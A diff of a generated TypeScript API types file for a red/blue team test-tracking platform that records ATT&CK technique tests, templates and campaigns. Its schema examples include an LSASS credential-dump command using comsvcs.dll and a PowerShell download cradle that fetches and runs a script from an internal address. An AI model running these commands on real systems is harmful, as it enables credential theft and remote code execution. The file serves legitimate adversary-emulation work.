@@ -400,7 +400,10 @@ export interface paths {
         };
         get?: never;
         put?: never;
-        /** red_executing → blue_evaluating; needs `executed_at` and `attack_outcome`. */
+        /**
+         * red_executing → blue_evaluating. The test needs `executed_at` and
+         *     `attack_outcome` first: without them, 409 `fields_missing` names them.
+         */
         post: operations["submit_test_to_blue"];
         delete?: never;
         options?: never;
@@ -417,7 +420,10 @@ export interface paths {
         };
         get?: never;
         put?: never;
-        /** blue_evaluating → completed (blue techs, leads, admins); needs `detection_outcome`. */
+        /**
+         * blue_evaluating → completed (blue techs, leads, admins). The test
+         *     needs `detection_outcome` first (409 `fields_missing` otherwise).
+         */
         post: operations["complete_test"];
         delete?: never;
         options?: never;
@@ -490,7 +496,8 @@ export interface paths {
         get: operations["list_evidence"];
         put?: never;
         /**
-         * Attach a file (multipart: optional `description`, then `file`). The
+         * Attach a file (multipart: optional `description`, then `file`, the
+         *     last part; any other part is refused with 422). The
          *     side follows the uploader: red techs add red evidence while the test is
          *     a draft or executing, blue techs blue evidence while blue evaluates,
          *     leads and admins the side that is open. Completed tests are locked.
@@ -1293,21 +1300,6 @@ export interface components {
             /** Format: int64 */
             offset: number;
         };
-        /** CampaignInput */
-        CampaignInput: {
-            /**
-             * Format: int64
-             * @description The version you edited (updates only), unless sent as `If-Match`.
-             */
-            version?: number;
-            name?: string;
-            description?: string;
-            threat_actor?: string;
-            /** Format: naive-date */
-            starts_on?: string;
-            /** Format: naive-date */
-            ends_on?: string;
-        };
         /** CampaignPage */
         CampaignPage: {
             items: components["schemas"]["CampaignView"][];
@@ -1318,18 +1310,44 @@ export interface components {
             /** Format: int64 */
             offset: number;
         };
+        /**
+         * CampaignPatchInput
+         * @description A partial change: a field left out stays as it is, `null` clears it.
+         */
+        CampaignPatchInput: {
+            /**
+             * Format: int64
+             * @description The version you edited, unless sent as `If-Match` (they must agree
+             *     when both are sent).
+             */
+            version?: number;
+            name?: string;
+            description?: string;
+            threat_actor?: string | null;
+            /** Format: date */
+            starts_on?: string | null;
+            /**
+             * Format: date
+             * @description Not before `starts_on`.
+             */
+            ends_on?: string | null;
+        };
         /** @enum {string} */
         CampaignStatus: "planned" | "active" | "completed";
-        /** CampaignView */
+        /**
+         * CampaignView
+         * @description A campaign with its progress; single-campaign answers add its `kpis`.
+         *     A field without a value is absent, never `null`.
+         */
         CampaignView: {
             id: string;
             name: string;
             description: string;
             threat_actor?: string;
             status: components["schemas"]["CampaignStatus"];
-            /** Format: naive-date */
+            /** Format: date */
             starts_on?: string;
-            /** Format: naive-date */
+            /** Format: date */
             ends_on?: string;
             /** @description `manual` or `navigator`. */
             source: string;
@@ -1351,8 +1369,7 @@ export interface components {
             };
             /** Format: int64 */
             tests_total: number;
-            /** @description The campaign's own KPIs (on single-campaign answers). */
-            kpis?: components["schemas"]["Kpis"] & unknown;
+            kpis?: components["schemas"]["Kpis"];
         };
         /** ChangePasswordRequest */
         ChangePasswordRequest: {
@@ -1496,23 +1513,36 @@ export interface components {
         /**
          * FromTemplateInput
          * @description A test from a template: its technique and command come from the template.
+         * @example {
+         *       "arguments": {},
+         *       "name": "LSASS dump on the finance jump host",
+         *       "tags": [
+         *         "credential-access"
+         *       ],
+         *       "target_host": "jump-fin-01.corp.example"
+         *     }
          */
         FromTemplateInput: {
             /** @description Defaults to the template's name. */
             name?: string;
             /**
-             * @description Values for the template's input arguments; the rest keep their defaults.
+             * @description Values for the template's input arguments (only those it has); the
+             *     rest keep their defaults.
              * @default {}
              */
             arguments: {
                 [key: string]: string;
             };
+            /** @description An existing campaign that is not completed. */
             campaign_id?: string;
             /** @description Defaults to the template's platform when it has exactly one. */
             platform?: string;
             target_host?: string;
+            /** @description An active user. */
             red_assignee_id?: string;
+            /** @description An active user. */
             blue_assignee_id?: string;
+            /** @description Stored lower-case, sorted, without duplicates. */
             tags?: string[];
         };
         /** HealthStatus */
@@ -1549,6 +1579,7 @@ export interface components {
         /** ImportProblemView */
         ImportProblemView: {
             file: string;
+            /** @description The atomic test's name, when the problem is one test of the file. */
             test?: string;
             reason: string;
         };
@@ -1574,7 +1605,10 @@ export interface components {
             /** @description Techniques that did not become tests (unknown to the catalog, revoked...). */
             skipped: components["schemas"]["SkippedTechnique"][];
         };
-        /** InputArgumentView */
+        /**
+         * InputArgumentView
+         * @description One `#{argument}` of a template's command.
+         */
         InputArgumentView: {
             /** @default  */
             description: string;
@@ -1694,27 +1728,117 @@ export interface components {
             subtechniques: components["schemas"]["TechniqueSummary"][];
         };
         /**
+         * NewCampaignInput
+         * @description A new campaign; it starts `planned`.
+         * @example {
+         *       "description": "The MITRE APT29 plan against the finance network.",
+         *       "ends_on": "2026-04-30",
+         *       "name": "APT29 emulation, spring",
+         *       "starts_on": "2026-04-01",
+         *       "threat_actor": "APT29"
+         *     }
+         */
+        NewCampaignInput: {
+            /** @description Leading and trailing spaces are dropped. */
+            name: string;
+            description?: string;
+            threat_actor?: string;
+            /** Format: date */
+            starts_on?: string;
+            /**
+             * Format: date
+             * @description Not before `starts_on`.
+             */
+            ends_on?: string;
+        };
+        /**
+         * NewTemplateInput
+         * @description A template written by hand.
+         * @example {
+         *       "cleanup_command": "Remove-Item #{output_file}",
+         *       "command": "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).id #{output_file} full",
+         *       "description": "MiniDump of lsass.exe through rundll32.",
+         *       "elevation_required": true,
+         *       "executor": "powershell",
+         *       "input_arguments": {
+         *         "output_file": {
+         *           "default": "C:\\Windows\\Temp\\lsass.dmp",
+         *           "description": "Where the dump is written",
+         *           "type": "path"
+         *         }
+         *       },
+         *       "name": "Dump LSASS with comsvcs.dll",
+         *       "platforms": [
+         *         "windows"
+         *       ],
+         *       "technique_id": "T1003.001"
+         *     }
+         */
+        NewTemplateInput: {
+            name: string;
+            description?: string;
+            /** @description ATT&CK id from the catalog, e.g. `T1003.001`. */
+            technique_id: string;
+            /** @description Stored lower-case, sorted, without duplicates. */
+            platforms?: string[];
+            /** @description `command_prompt`, `powershell`, `sh`, `bash`, `manual`... */
+            executor?: string;
+            /** @description The procedure, with `#{argument}` placeholders. */
+            command?: string;
+            cleanup_command?: string;
+            elevation_required?: boolean;
+            /** @description Named with letters, digits, `-` and `_` (at most 64 characters). */
+            input_arguments?: {
+                [key: string]: components["schemas"]["InputArgumentView"];
+            };
+        };
+        /**
          * NewTestInput
          * @description A new test. It starts as a draft; the blue half is filled once blue evaluates.
+         * @example {
+         *       "name": "PowerShell download cradle",
+         *       "platform": "windows",
+         *       "procedure": "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')\"",
+         *       "tags": [
+         *         "execution",
+         *         "q2-exercise"
+         *       ],
+         *       "target_host": "ws-042.corp.example",
+         *       "technique_id": "T1059.001"
+         *     }
          */
         NewTestInput: {
+            /** @description Leading and trailing spaces are dropped. */
             name: string;
-            /** @description ATT&CK id from the catalog, e.g. `T1059.001`. */
+            /**
+             * @description ATT&CK id from the catalog, e.g. `T1059.001`; it must be in the
+             *     catalog, neither revoked nor deprecated.
+             */
             technique_id: string;
-            /** @description `enterprise-attack` (default), `mobile-attack` or `ics-attack`. */
-            technique_domain?: string;
+            technique_domain?: components["schemas"]["TechniqueDomain"];
+            /** @description An existing campaign that is not completed. */
             campaign_id?: string;
             procedure?: string;
             platform?: string;
             target_host?: string;
+            /** @description An active user; a red tech's test is theirs when left out. */
             red_assignee_id?: string;
+            /** @description An active user. */
             blue_assignee_id?: string;
+            /** @description Stored lower-case, sorted, without duplicates. */
             tags?: string[];
             /** Format: date-time */
             executed_at?: string;
             attack_outcome?: components["schemas"]["AttackOutcome"];
             red_notes?: string;
         };
+        /**
+         * @description An attack outcome (`succeeded`, `failed`, `blocked`) or a detection
+         *     outcome (`prevented`, `alerted`, `logged`, `not_detected`): the two sets
+         *     do not overlap, so one filter takes both.
+         * @enum {string}
+         */
+        OutcomeFilter: "succeeded" | "failed" | "blocked" | "prevented" | "alerted" | "logged" | "not_detected";
         /** PluginConfigInput */
         PluginConfigInput: {
             /**
@@ -2105,6 +2229,11 @@ export interface components {
             deprecated: boolean;
             missing_since?: string;
         };
+        /**
+         * @description An ATT&CK domain; `enterprise-attack` when left out.
+         * @enum {string}
+         */
+        TechniqueDomain: "enterprise-attack" | "mobile-attack" | "ics-attack";
         /** TechniquePage */
         TechniquePage: {
             items: components["schemas"]["TechniqueSummary"][];
@@ -2149,25 +2278,6 @@ export interface components {
             missing_since?: string;
             url?: string;
         };
-        /** TemplateInput */
-        TemplateInput: {
-            /**
-             * Format: int64
-             * @description The version you edited (updates only), unless sent as `If-Match`.
-             */
-            version?: number;
-            name?: string;
-            description?: string;
-            technique_id?: string;
-            platforms?: string[];
-            executor?: string;
-            command?: string;
-            cleanup_command?: string;
-            elevation_required?: boolean;
-            input_arguments?: {
-                [key: string]: components["schemas"]["InputArgumentView"];
-            };
-        };
         /** TemplatePage */
         TemplatePage: {
             items: components["schemas"]["TemplateView"][];
@@ -2178,7 +2288,35 @@ export interface components {
             /** Format: int64 */
             offset: number;
         };
-        /** TemplateView */
+        /**
+         * TemplatePatchInput
+         * @description A partial change to a template: a field left out stays as it is, `null`
+         *     clears it.
+         */
+        TemplatePatchInput: {
+            /**
+             * Format: int64
+             * @description The version you edited, unless sent as `If-Match` (they must agree
+             *     when both are sent).
+             */
+            version?: number;
+            name?: string;
+            description?: string;
+            technique_id?: string;
+            platforms?: string[];
+            executor?: string | null;
+            command?: string;
+            cleanup_command?: string | null;
+            elevation_required?: boolean;
+            /** @description The whole set: arguments left out are removed. */
+            input_arguments?: {
+                [key: string]: components["schemas"]["InputArgumentView"];
+            };
+        };
+        /**
+         * TemplateView
+         * @description A reusable procedure. A field without a value is absent, never `null`.
+         */
         TemplateView: {
             id: string;
             name: string;
@@ -2219,43 +2357,64 @@ export interface components {
         };
         /**
          * TestPatchInput
-         * @description A partial change. Plan and red fields are for red techs, leads and admins;
-         *     blue fields for blue techs, leads and admins. `null` clears a field.
+         * @description A partial change: a field left out stays as it is, `null` clears it.
+         *     Plan and red fields are for red techs, leads and admins; blue fields for
+         *     blue techs, leads and admins; each group only while the test's state
+         *     leaves it open (409 `fields_locked` otherwise).
+         * @example {
+         *       "attack_outcome": "succeeded",
+         *       "executed_at": "2026-03-02T10:15:00+00:00",
+         *       "red_notes": "Ran from an unprivileged session; the script was fetched."
+         *     }
          */
         TestPatchInput: {
             /**
              * Format: int64
-             * @description The version you edited, unless sent as `If-Match`.
+             * @description The version you edited, unless sent as `If-Match` (they must agree
+             *     when both are sent).
              */
             version?: number;
             name?: string;
-            technique_domain?: string;
+            technique_domain?: components["schemas"]["TechniqueDomain"];
             technique_id?: string;
-            campaign_id?: string;
+            campaign_id?: string | null;
             procedure?: string;
-            platform?: string;
-            target_host?: string;
-            red_assignee_id?: string;
-            blue_assignee_id?: string;
+            platform?: string | null;
+            target_host?: string | null;
+            red_assignee_id?: string | null;
+            blue_assignee_id?: string | null;
             tags?: string[];
             /** Format: date-time */
-            executed_at?: string;
-            attack_outcome?: components["schemas"]["AttackOutcome"];
+            executed_at?: string | null;
+            attack_outcome?: components["schemas"]["AttackOutcome"] | null;
             red_notes?: string;
-            detection_outcome?: components["schemas"]["DetectionOutcome"];
-            /** Format: date-time */
-            detected_at?: string;
-            detection_source?: string;
+            detection_outcome?: components["schemas"]["DetectionOutcome"] | null;
+            /**
+             * Format: date-time
+             * @description Not before `executed_at`.
+             */
+            detected_at?: string | null;
+            detection_source?: string | null;
             blue_notes?: string;
         };
+        /**
+         * @description The order of a test list: a column, with a leading `-` for descending.
+         * @enum {string}
+         */
+        TestSortKey: "name" | "-name" | "created_at" | "-created_at" | "updated_at" | "-updated_at" | "executed_at" | "-executed_at" | "state" | "-state" | "technique_id" | "-technique_id";
         /** @enum {string} */
         TestState: "draft" | "red_executing" | "blue_evaluating" | "completed" | "cancelled";
-        /** TestView */
+        /**
+         * TestView
+         * @description A test: its plan, the red half (what was done) and the blue half (what
+         *     was seen). A field without a value is absent, never `null`.
+         */
         TestView: {
             id: string;
             name: string;
             technique: components["schemas"]["TechniqueRefView"];
             campaign_id?: string;
+            /** @description The template the test was made from. */
             template_id?: string;
             procedure: string;
             platform?: string;
@@ -5373,11 +5532,7 @@ export interface operations {
                 campaign_id?: string;
                 /** @description A user id (red or blue assignee), or `me`. */
                 assignee?: string;
-                /**
-                 * @description An attack outcome (`succeeded`, `failed`, `blocked`) or a detection
-                 *     outcome (`prevented`, `alerted`, `logged`, `not_detected`).
-                 */
-                outcome?: string;
+                outcome?: components["schemas"]["OutcomeFilter"];
                 platform?: string;
                 tag?: string;
                 created_after?: string;
@@ -5386,11 +5541,9 @@ export interface operations {
                 executed_before?: string;
                 /** @description Part of the name, procedure, host or technique id. */
                 q?: string;
-                /**
-                 * @description `name`, `created_at`, `updated_at`, `executed_at`, `state` or
-                 *     `technique_id`; a leading `-` sorts descending. Default `-created_at`.
-                 */
-                sort?: string;
+                /** @description Default `-created_at`. */
+                sort?: components["schemas"]["TestSortKey"];
+                /** @description 1 to 500, default 50. */
                 limit?: number;
                 offset?: number;
             };
@@ -5819,6 +5972,11 @@ export interface operations {
         parameters: {
             query?: never;
             header?: {
+                /**
+                 * @description The version you edited, as its `ETag` gave it (`"3"`). This or
+                 *     the body's `version` is required (428 without either, 400 when
+                 *     they disagree); a version that is no longer current gets 412.
+                 */
                 "If-Match"?: string;
             };
             path: {
@@ -6676,6 +6834,7 @@ export interface operations {
     get_test_history: {
         parameters: {
             query?: {
+                /** @description 1 to 500, default 50. */
                 limit?: number;
                 offset?: number;
             };
@@ -6968,13 +7127,13 @@ export interface operations {
         requestBody: {
             content: {
                 "multipart/form-data": {
+                    /** @description A note about the file; send it before `file`. */
+                    description?: string;
                     /**
                      * Format: binary
-                     * @description The file; its part's Content-Type is its media type.
+                     * @description The file. Its part's `Content-Type` is kept as its media type (`application/octet-stream` when absent) and must be one the server accepts (`[evidence] allowed_media_types`, 415 otherwise).
                      */
                     file: string;
-                    /** @description Optional note about the file. */
-                    description?: string;
                 };
             };
         };
@@ -7401,12 +7560,18 @@ export interface operations {
         };
         requestBody?: never;
         responses: {
+            /** @description The file, with the media type it was uploaded with. */
             200: {
                 headers: {
+                    /** @description `attachment` with the file's name (RFC 6266). */
+                    "Content-Disposition": string;
+                    /** @description Hex SHA-256 of the file. */
+                    "X-Checksum-SHA256": string;
                     [name: string]: unknown;
                 };
                 content: {
                     "application/octet-stream": string;
+                    "*/*": string;
                 };
             };
             /** @description The request is malformed. */
@@ -7538,6 +7703,7 @@ export interface operations {
                 /** @description `manual` or `atomic-red-team`. */
                 source?: string;
                 q?: string;
+                /** @description 1 to 500, default 50. */
                 limit?: number;
                 offset?: number;
             };
@@ -7685,7 +7851,7 @@ export interface operations {
         };
         requestBody: {
             content: {
-                "application/json; charset=utf-8": components["schemas"]["TemplateInput"];
+                "application/json; charset=utf-8": components["schemas"]["NewTemplateInput"];
             };
         };
         responses: {
@@ -8102,6 +8268,11 @@ export interface operations {
         parameters: {
             query?: never;
             header?: {
+                /**
+                 * @description The version you edited, as its `ETag` gave it (`"3"`). This or
+                 *     the body's `version` is required (428 without either, 400 when
+                 *     they disagree); a version that is no longer current gets 412.
+                 */
                 "If-Match"?: string;
             };
             path: {
@@ -8111,7 +8282,7 @@ export interface operations {
         };
         requestBody: {
             content: {
-                "application/json; charset=utf-8": components["schemas"]["TemplateInput"];
+                "application/json; charset=utf-8": components["schemas"]["TemplatePatchInput"];
             };
         };
         responses: {
@@ -8403,11 +8574,9 @@ export interface operations {
                 "multipart/form-data": {
                     /**
                      * Format: binary
-                     * @description The file; its part's Content-Type is its media type.
+                     * @description One Atomic Red Team `Txxxx.yaml`, UTF-8, at most 2 MiB.
                      */
                     file: string;
-                    /** @description Optional note about the file. */
-                    description?: string;
                 };
             };
         };
@@ -8547,6 +8716,7 @@ export interface operations {
                 status?: components["schemas"]["CampaignStatus"];
                 /** @description Part of the name, description or threat actor. */
                 q?: string;
+                /** @description 1 to 500, default 50. */
                 limit?: number;
                 offset?: number;
             };
@@ -8694,7 +8864,7 @@ export interface operations {
         };
         requestBody: {
             content: {
-                "application/json; charset=utf-8": components["schemas"]["CampaignInput"];
+                "application/json; charset=utf-8": components["schemas"]["NewCampaignInput"];
             };
         };
         responses: {
@@ -9111,6 +9281,11 @@ export interface operations {
         parameters: {
             query?: never;
             header?: {
+                /**
+                 * @description The version you edited, as its `ETag` gave it (`"3"`). This or
+                 *     the body's `version` is required (428 without either, 400 when
+                 *     they disagree); a version that is no longer current gets 412.
+                 */
                 "If-Match"?: string;
             };
             path: {
@@ -9120,7 +9295,7 @@ export interface operations {
         };
         requestBody: {
             content: {
-                "application/json; charset=utf-8": components["schemas"]["CampaignInput"];
+                "application/json; charset=utf-8": components["schemas"]["CampaignPatchInput"];
             };
         };
         responses: {
@@ -9548,11 +9723,9 @@ export interface operations {
                 "multipart/form-data": {
                     /**
                      * Format: binary
-                     * @description The file; its part's Content-Type is its media type.
+                     * @description An ATT&CK Navigator layer file (JSON, format 4.x or 3.0): one layer or a list of layers, at most 8 MiB.
                      */
                     file: string;
-                    /** @description Optional note about the file. */
-                    description?: string;
                 };
             };
         };
